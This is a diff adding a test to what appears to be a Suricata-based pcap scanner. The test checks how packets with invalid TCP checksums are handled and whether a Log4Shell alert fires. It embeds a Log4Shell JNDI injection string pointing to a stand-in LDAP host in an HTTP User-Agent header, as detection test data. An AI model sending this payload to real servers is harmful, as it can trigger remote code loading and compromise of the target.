@@ -110,3 +110,25 @@ test('human output, clean traffic and errors', async () => {
   const usage = await run(process.execPath, [bin, 'scan']);
   assert.equal(usage.code, 2);
 });
+
+test('checksums as Suricata reads a pcap file: invalid ones dropped by default (auto), kept with --checksum-checks no', async () => {
+  const c = new Conv('203.0.113.80', '198.51.100.10', 45002, 80).handshake();
+  c.c('GET / HTTP/1.1\r\nHost: victim\r\nUser-Agent: ${jndi:ldap://203.0.113.80:1389/a}\r\n\r\n').fin();
+  // Every TCP checksum broken, as in a capture taken on the sending host with checksum offload.
+  const frames = c.frames.map((f) => {
+    const d = Uint8Array.from(f.data);
+    d[50] = d[50]! ^ 0xff;
+    return { ...f, data: d };
+  });
+  const file = write('bad-checksums.pcap', frames);
+  const auto = await scan(file);
+  assert.equal(auto.code, 0, auto.stderr);
+  assert.equal(auto.events.length, 0, 'invalid packets are not inspected');
+  assert.deepEqual(auto.stats.dropped, { bad_checksum: frames.length });
+  assert.match(auto.stderr, /invalid TCP checksum.*--checksum-checks no/);
+  const no = await scan(file, ['--checksum-checks', 'no']);
+  assert.ok(no.events.some((e) => /Log4Shell/i.test(e.alert.signature)), JSON.stringify(no.events));
+  assert.deepEqual(no.stats.dropped, {});
+  const bad = await run(process.execPath, [bin, 'scan', file, '--checksum-checks', 'maybe']);
+  assert.equal(bad.code, 2);
+});
